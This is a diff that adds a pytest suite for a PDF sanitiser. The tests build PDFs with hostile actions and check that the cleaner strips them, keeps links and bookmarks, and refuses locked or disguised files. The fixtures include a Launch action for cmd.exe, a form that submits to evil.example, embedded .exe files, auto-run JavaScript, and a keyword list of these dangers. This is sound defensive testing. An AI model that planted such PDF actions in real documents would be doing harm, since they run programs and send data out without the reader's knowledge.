@@ -1,0 +1,142 @@
+"""PDF: what acts is gone, what is read stays (knowledge: E3 6 to 8)."""
+
+import io
+
+import pikepdf
+import pytest
+from pikepdf import Array, Dictionary, Name, Stream, String
+
+from assets.cleaning.clean import clean
+from assets.cleaning.refusal import RefusedError
+from tests.factories import pdf_bytes
+
+PAYLOAD = b"MZ payload of a program"
+SCRIPT = "app.alert('run')"
+
+
+def _script():
+    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))
+
+
+def _embed(pdf, name):
+    spec = pikepdf.AttachedFileSpec(pdf, PAYLOAD, filename=name)
+    pdf.attachments[name] = spec
+    return spec.obj
+
+
+def _annotate(pdf, **facts):
+    note = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **facts)
+    page = pdf.pages[0].obj
+    page["/Annots"] = Array([*page.get("/Annots", []), pdf.make_indirect(note)])
+
+
+HOSTILE = {
+    "script on opening": lambda pdf: pdf.Root.__setitem__("/OpenAction", _script()),
+    "script on events": lambda pdf: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=_script())),
+    "scripts by name": lambda pdf: pdf.Root.__setitem__(
+        "/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(_script())])))
+    ),
+    "script in a chain": lambda pdf: _annotate(
+        pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([_script()]))
+    ),
+    "script as a stream": lambda pdf: _annotate(
+        pdf, Subtype=Name.Link, A=pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(pdf, SCRIPT.encode())))
+    ),
+    "program to launch": lambda pdf: _annotate(
+        pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
+    ),
+    "link that is a script": lambda pdf: _annotate(
+        pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(f"javascript:{SCRIPT}"))
+    ),
+    "form that sends": lambda pdf: _annotate(
+        pdf, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))
+    ),
+    "file inside": lambda pdf: _embed(pdf, "a.exe"),
+    "file on a pin": lambda pdf: _annotate(pdf, Subtype=Name.FileAttachment, FS=_embed(pdf, "b.exe")),
+    "film": lambda pdf: _annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(A=_embed(pdf, "c.swf"))),
+    "portfolio": lambda pdf: (_embed(pdf, "d.exe"), pdf.Root.__setitem__("/Collection", Dictionary())),
+    "XFA form": lambda pdf: pdf.Root.__setitem__(
+        "/AcroForm", Dictionary(Fields=[], XFA=Stream(pdf, f"<xdp>{SCRIPT}</xdp>".encode()))
+    ),
+    "private data of a program": lambda pdf: pdf.Root.__setitem__(
+        "/PieceInfo", Dictionary(Any=pdf.make_stream(PAYLOAD))
+    ),
+}
+DANGERS = (b"JavaScript", b"Launch", b"SubmitForm", b"EmbeddedFile", b"XFA", b"cmd.exe", b"evil", b"app.alert", PAYLOAD)
+
+
+def with_(*changes, **options) -> bytes:
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
+        for change in changes:
+            change(pdf)
+        pdf.save(out, **options)
+    return out.getvalue()
+
+
+def plain(content: bytes) -> bytes:
+    """Every object and stream in the open, to be searched."""
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(content)) as pdf:
+        pdf.save(
+            out,
+            object_stream_mode=pikepdf.ObjectStreamMode.disable,
+            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
+            compress_streams=False,
+        )
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("danger", HOSTILE)
+def test_what_acts_or_hides_is_gone(danger):
+    hostile = with_(HOSTILE[danger])
+    assert any(word in plain(hostile) for word in DANGERS)
+
+    pdf = clean(hostile, "pdf")
+
+    assert not [word for word in DANGERS if word in plain(pdf.content)]
+    assert pdf.page_count == 2
+
+
+def test_links_titles_bookmarks_and_standards_stay_and_the_author_goes():
+    def write(pdf):
+        _annotate(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/report")))
+        pdf.docinfo["/Title"], pdf.docinfo["/Author"] = "Network", "Ann Sender"
+        with pdf.open_metadata() as metadata:
+            metadata["dc:title"], metadata["pdfuaid:part"] = "Network", "1"
+            metadata["dc:creator"] = ["Ann Sender"]
+        with pdf.open_outline() as outline:
+            outline.root.append(pikepdf.OutlineItem("Chapter", 1))
+
+    text = plain(clean(with_(write), "pdf").content)
+
+    for kept in (b"https://example.org/report", b"Network", b"pdfuaid:part", b"Chapter"):
+        assert kept in text
+    assert b"Ann Sender" not in text
+
+
+def test_the_same_file_gives_the_same_bytes_and_a_clean_one_stays_clean():
+    once = clean(with_(*HOSTILE.values()), "pdf").content
+
+    assert clean(once, "pdf").content == once
+
+
+LOCKED = {"owner": "x" * 12, "R": 6}
+BAD = {
+    "password to open": lambda: with_(encryption=pikepdf.Encryption(user="secret", **LOCKED)),
+    "password to change": lambda: with_(encryption=pikepdf.Encryption(user="", **LOCKED)),
+    "torn": lambda: b"%PDF-1.7\nnothing more",
+    "no pages": lambda: with_(lambda pdf: pdf.pages.__delitem__(slice(None))),
+}
+
+
+@pytest.mark.parametrize("name", BAD)
+def test_locked_and_broken_files_are_refused(name):
+    with pytest.raises(RefusedError, match="pdf-"):
+        clean(BAD[name](), "pdf")
+
+
+@pytest.mark.parametrize("content", [b"<html>no PDF</html>", b"GIF89a %PDF-1.4", b"\0%PDF-1.4"])
+def test_another_file_under_the_name_of_a_pdf_is_refused(content):
+    with pytest.raises(RefusedError, match="kind"):
+        clean(content, "pdf")
